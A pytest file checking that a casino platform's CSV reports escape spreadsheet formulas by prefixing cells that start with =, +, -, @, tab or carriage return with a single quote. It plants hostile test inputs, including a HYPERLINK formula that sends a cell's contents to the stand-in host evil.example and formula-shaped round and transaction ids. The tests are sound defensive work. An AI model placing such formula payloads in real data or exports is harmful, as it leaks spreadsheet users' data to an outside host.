"""No report's CSV carries a formula (OWASP, "CSV injection"): a text cell starting with
= + - @, a tab or a carriage return -- a provider's or game's name, a round or transaction
id, what a provider or an operator typed -- is prefixed with a single quote, so a
spreadsheet shows it as text; numbers, negative ones included, stay numbers."""
import csv
import io
import json
import uuid
from datetime import UTC, datetime

import pytest

from casino.reports import cell
from tests.clocked import ClockedLedger
from tests.support import OPERATOR_KEY

pytestmark = pytest.mark.usefixtures("clean_audit")

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"invoice")'
MOMENT = datetime(2023, 11, 14, 10, tzinfo=UTC)


def get(api, path):
    r = api.http.get(f"{api.base_url}/casino/admin/reports/{path}", timeout=30,
                     headers={"Authorization": f"Bearer {OPERATOR_KEY}"})
    assert r.status_code == 200, r.text
    return list(csv.reader(io.StringIO(r.text)))


@pytest.fixture(scope="module")
def hostile(api, ledger, database_dsn):
    """A game named as a formula, of a provider of its own, and a round the players won (a
    negative GGR) whose ids start as formulas do, on 14 November 2023."""
    first = ledger.game(min_bet=1, max_bet=100_000)
    [(code,)] = ledger.query("""SELECT p.code FROM CASINO_GAMES g JOIN CASINO_GAME_PROVIDERS p
                                ON p.id = g.provider_id WHERE g.id = %s""", first)
    r = api.http.post(f"{api.base_url}/casino/admin/games", timeout=30, data=json.dumps(
        {"providerCode": code, "providerGameId": "g-" + uuid.uuid4().hex[:8], "name": LINK, "currency": "USD",
         "minBet": 1, "maxBet": 100_000}).encode(), headers={"Authorization": f"Bearer {OPERATOR_KEY}"})
    assert r.status_code == 201, r.text
    game = r.json()["gameId"]
    books = ClockedLedger(database_dsn)
    books.at(MOMENT)
    user_id, wallets = books.player(["USD"], funds=100_000)
    seat = books.seat(user_id, wallets["USD"], "USD", game)
    p = uuid.uuid4().hex[:8]
    ids = {"round": f"@SUM(1+1)-{p}", "bet": f"+{p}", "win": f"-2+3-{p}"}
    books.bet(seat, ids["bet"], ids["round"], 100)
    books.at(MOMENT.replace(minute=1)).win(seat, ids["win"], ids["round"], 1_000)
    books.close()
    return code, game, ids


def test_the_invoice_quotes_a_game_name_that_is_a_formula(api, hostile):
    code, game, _ = hostile
    lines = get(api, f"providers/{code}/invoice?month=2023-11&format=csv")
    row = next(line for line in lines if line[0] == str(game))
    assert row[1] == "'" + LINK
    # The figures stay numbers: the players won, GGR -9.00 is no formula.
    assert dict(zip(lines[0], row, strict=True))["ggr"] == "-9.00"
    assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for line in lines for value in line)


def test_large_wins_quote_ids_that_start_as_formulas(api, hostile):
    code, _, ids = hostile
    lines = get(api, "large-wins?from=2023-11-14&to=2023-11-14&multiple=2&format=csv")
    header, rows = lines[0], [line for line in lines[1:] if line[1] == code]
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert (row["roundId"], row["transactionId"]) == ("'" + ids["round"], "'" + ids["win"])
    assert (row["win"], row["roundStakes"], row["multiple"]) == ("10.00", "1.00", "10.00")


def test_ggr_by_game_keeps_negative_figures_as_numbers(api, hostile):
    _, game, _ = hostile
    lines = get(api, "ggr?from=2023-11-14&to=2023-11-14&groupBy=game&format=csv")
    header = lines[0]
    row = dict(zip(header, next(line for line in lines if line[0] == str(game)), strict=True))
    assert row["ggr"] == "-9.00"


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-2+3", "'-2+3"), ("-12.50", "-12.50"), ("-3", "-3"), ("12.50", "12.50"), ("JAQPOT", "JAQPOT"), ("", ""),
    (-5, -5), (None, None),
])
def test_what_a_cell_becomes(value, written):
    assert cell(value) == written
